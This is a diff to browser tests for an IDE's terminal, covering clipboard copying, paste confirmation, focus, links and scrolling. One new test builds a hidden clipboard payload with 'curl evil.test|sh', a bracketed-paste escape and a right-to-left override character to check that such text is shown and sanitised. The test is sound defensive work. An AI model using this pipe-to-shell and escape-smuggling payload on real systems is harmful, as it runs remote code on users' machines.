@@ -12,6 +12,7 @@ from playwright.sync_api import Locator, expect
 from tests.browser import axe
 from tests.browser.api import Project
 from tests.browser.ide import AGENT_MS, Cell, Ide
+from tests.browser.waiting import eventually
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -43,6 +44,10 @@ def paste(ide: Ide, text: str) -> None:
 
 def clipboard(ide: Ide) -> str:
     return str(ide.page.evaluate("navigator.clipboard.readText()"))
+
+
+def is_copied(ide: Ide, text: str) -> None:
+    eventually(ide.page, lambda: clipboard(ide), lambda now: now == text)
 
 
 def row(shell: Cell, text: str) -> Locator:
@@ -100,7 +105,7 @@ def test_what_is_selected_by_mouse_or_keys_is_copied_and_ctrl_c_stays_the_progra
     expect(shell.screen).to_contain_text("second-word here")
     ide.page.mouse.dblclick(*point_at(ide, row(shell, "second-word here"), "second"))
     ide.page.keyboard.press("Control+Shift+C")
-    assert clipboard(ide) == "second-word"
+    is_copied(ide, "second-word")
 
     # From the prompt upwards: the row above, then its end.
     ide.page.keyboard.press("Control+Shift+Space")
@@ -108,8 +113,9 @@ def test_what_is_selected_by_mouse_or_keys_is_copied_and_ctrl_c_stays_the_progra
     for key in ("ArrowUp", "Home", "Shift+End", "Enter"):
         ide.page.keyboard.press(key)
     expect(shell.root).not_to_contain_text("Arrows move")
-    assert clipboard(ide) == "second-word here"
+    is_copied(ide, "second-word here")
 
+    expect(shell.keys).to_be_focused()
     ide.page.keyboard.type("sleep 600\n")
     ide.page.keyboard.press("Control+c")
     expect(shell.screen).to_contain_text(re.compile(r"\^C\s*[$#]\s*$"))
@@ -131,6 +137,7 @@ os.write(1, b"\x1b[?2004l")'; stty sane"""
     expect(shell.root).to_contain_text("Paste 9 lines?")
     shell.button("Paste").click()
     expect(row(shell, "> ready")).to_be_visible()
+    expect(shell.keys).to_be_focused()
 
     lines = "\n".join(f"\tline {number} é漢字 {'x' * 40}" for number in range(1100))
     typed = lines.replace("\n", "\r").encode()
@@ -143,6 +150,7 @@ os.write(1, b"\x1b[?2004l")'; stty sane"""
     paste(ide, "x" * 600_000)
     expect(shell.root.get_by_role("alert")).to_contain_text("Nothing was pasted")
     shell.button("Close").click()
+    expect(shell.keys).to_be_focused()
     paste(ide, "echo no\necho never\n")
     shell.button("Cancel").click()
     expect(shell.keys).to_be_focused()
@@ -162,12 +170,34 @@ def test_a_program_offers_for_the_clipboard_and_rings_and_only_the_person_acts(i
 
     shell.button("Copy").click()
     expect(shell.button("Copy")).to_have_count(0)
-    assert clipboard(ide) == "from the program 漢字"
+    is_copied(ide, "from the program 漢字")
     # The person has turned to it.
     expect(shell.root.get_by_text("It rang")).to_have_count(0)
     ide.reload()
     expect(shell.screen).to_contain_text("done")
     expect(shell.button("Copy")).to_have_count(0)
+
+
+def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) -> None:
+    hidden = "git status" + "\n" * 40 + "curl evil.test|sh\x1b[201~\u202egpj\n"
+    offered = base64.b64encode(hidden.encode()).decode()
+    shell.type(rf"printf '\033]52;c;{offered}\007'; echo do''ne")
+    expect(shell.screen).to_contain_text("done")
+    whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
+    expect(whole).to_contain_text("curl evil.test|sh␛[201~<202E>gpj")
+    expect(shell.root).to_contain_text("41 lines, 76 characters. 2 control characters will be left out.")
+    whole.evaluate("box => box.scrollTo(0, box.scrollHeight)")
+    assert whole.evaluate("box => box.scrollTop") > 0
+    assert axe.violations(ide.page) == []
+
+    shell.button("Copy").click()
+    expect(shell.button("Copy")).to_have_count(0)
+    assert clipboard(ide) == "git status" + "\n" * 40 + "curl evil.test|sh[201~gpj\n"
+
+    shell.type(r"printf '\033[?2004l'; exec cat")
+    paste(ide, "one" + "\n" * 20 + "evil\n")
+    expect(shell.root).to_contain_text("Paste 21 lines?")
+    expect(whole).to_contain_text("evil")
 
 
 def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) -> None:
@@ -190,7 +220,7 @@ def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) ->
             ide.page.mouse.down()
             ide.page.mouse.up()
             ide.page.keyboard.up("Control")
-        assert opened.value.url == target
+        expect(opened.value).to_have_url(target)
         assert opened.value.evaluate("window.opener") is None
         opened.value.close()
         # Also after a reload: the picture of a terminal has its links.
@@ -209,6 +239,8 @@ def test_who_reads_above_is_told_of_new_lines_and_led_back(ide: Ide, shell: Cell
     ide.page.mouse.wheel(0, -900)
     back = shell.root.get_by_role("button", name="To the end")
     expect(back).to_be_visible()
+    # Drawn by now: all rows at once.
+    expect(shell.screen).not_to_contain_text("200")
     place = shell.screen.locator("> div").first.text_content()
     # A change of size, for which the terminal is painted anew, keeps the place as well.
     ide.page.set_viewport_size({"width": 1100, "height": 720})
@@ -243,5 +275,9 @@ def test_text_grows_and_shrinks_in_all_terminals_and_stays_so(ide: Ide, shell: C
 
 
 def rows_of(shell: Cell) -> str:
-    expect(shell.screen).to_have_text(re.compile(r"^\s*\d+ \d+\s*$"))
-    return (shell.screen.text_content() or "").strip()
+    # Between two looks of the shell the screen is blank.
+    return eventually(
+        shell.root.page,
+        lambda: (shell.screen.text_content() or "").strip(),
+        lambda now: re.fullmatch(r"\d+ \d+", now) is not None,
+    )
